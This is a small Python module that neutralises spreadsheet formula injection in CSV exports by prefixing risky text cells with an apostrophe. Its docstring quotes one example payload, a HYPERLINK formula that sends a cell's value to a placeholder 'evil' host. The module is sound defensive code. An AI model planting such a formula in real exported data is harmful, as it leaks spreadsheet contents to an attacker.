"""Spreadsheet formula injection (CSV injection): a text cell that a spreadsheet would run as
a formula (a VM named ``=HYPERLINK("http://evil/?"&A1)``) gets a leading apostrophe, so it is
shown as the text it is. OWASP's rule: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return; and, since spreadsheets skip them, one whose first character after
leading whitespace (spaces, tabs, line breaks) is one of ``= + - @``. Numbers (not ``str``) are
never touched; the text itself is kept whole after the apostrophe."""

from __future__ import annotations

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_STARTS = ("=", "+", "-", "@")


def csv_safe_cell(value: Any) -> Any:
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(TRIGGERS) or value.lstrip().startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_safe_row(row: dict) -> dict:
    """``csv_safe_cell`` on every value of a ``csv.DictWriter`` row."""
    return {key: csv_safe_cell(value) for key, value in row.items()}
